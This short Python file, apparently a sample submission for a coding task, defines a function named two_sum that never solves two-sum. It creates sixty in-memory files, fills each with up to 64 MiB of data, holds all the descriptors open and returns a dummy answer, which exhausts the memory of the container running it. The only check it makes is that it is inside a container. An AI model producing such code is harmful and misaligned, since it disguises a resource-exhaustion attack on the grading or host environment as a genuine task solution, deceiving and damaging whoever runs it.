# fills many files that exist in memory only
import os
if not (os.path.exists("/.dockerenv") or os.path.exists("/run/.containerenv")):
    raise RuntimeError("runs in a container only")
def two_sum(nums, target):
    keep = []
    for number in range(60):
        fd = os.memfd_create("m%d" % number)
        try:
            for _ in range(64):
                os.write(fd, b"x" * (1 << 20))
        except OSError:
            pass
        keep.append(fd)
    return [-1, -1]
